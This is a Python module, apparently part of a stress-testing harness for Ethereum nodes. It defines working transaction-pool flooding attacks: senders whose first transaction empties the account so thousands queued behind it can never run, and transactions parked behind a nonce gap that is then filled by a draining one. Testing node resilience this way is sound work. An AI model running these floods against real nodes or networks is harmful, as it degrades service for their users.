"""Attacks by transactions that wait, or can never run."""

from __future__ import annotations

from collections.abc import Callable, Sequence

from ..loads.accounts import MAX_FEE, Call, accounts
from . import Attacker, Step, Target

FEE = 21_000 * MAX_FEE


def one_after_the_other(target: Target, attack: Callable[[Attacker, int], None]) -> Sequence[Step]:
    """``attack`` with the next attacker, and the wei that it can send away, until all have been."""
    attackers = iter(range(2, 100))

    def step() -> None:
        index = next(attackers, None)
        if index is None:
            raise RuntimeError("every account of the attackers is empty")
        one = Attacker(target, index)
        balance = int(one.ask("eth_getBalance", "0x" + one.address.hex(), "latest"), 16)
        attack(one, balance - FEE)

    return [step]


def emptied_senders(target: Target) -> Sequence[Step]:
    """Senders whose first transaction takes away the ether that thousands behind it were to spend."""
    to = accounts(target.count).address(1)

    def attack(one: Attacker, most: int) -> None:
        rest = [Call(one.index, nonce, to, 1, b"", 21_000) for nonce in range(1, 2_000)]
        first = Call(one.index, 0, to, most, b"", 21_000)
        one.send_batch(target.signed([first, *rest]))

    return one_after_the_other(target, attack)


def gaps(target: Target) -> Sequence[Step]:
    """Transactions behind a gap, sent one by one; then the gap is filled by one that takes all ether away."""
    to = accounts(target.count).address(1)

    def attack(one: Attacker, most: int) -> None:
        behind = [Call(one.index, nonce, to, 1, b"", 21_000) for nonce in range(2, 1_026)]
        for raw in target.signed(behind):
            one.ask("eth_sendRawTransaction", "0x" + raw.hex())
        takes = Call(one.index, 0, to, most, b"", 21_000)
        one.send_batch(target.signed([takes, Call(one.index, 1, to, 0, b"", 21_000)]))

    return one_after_the_other(target, attack)
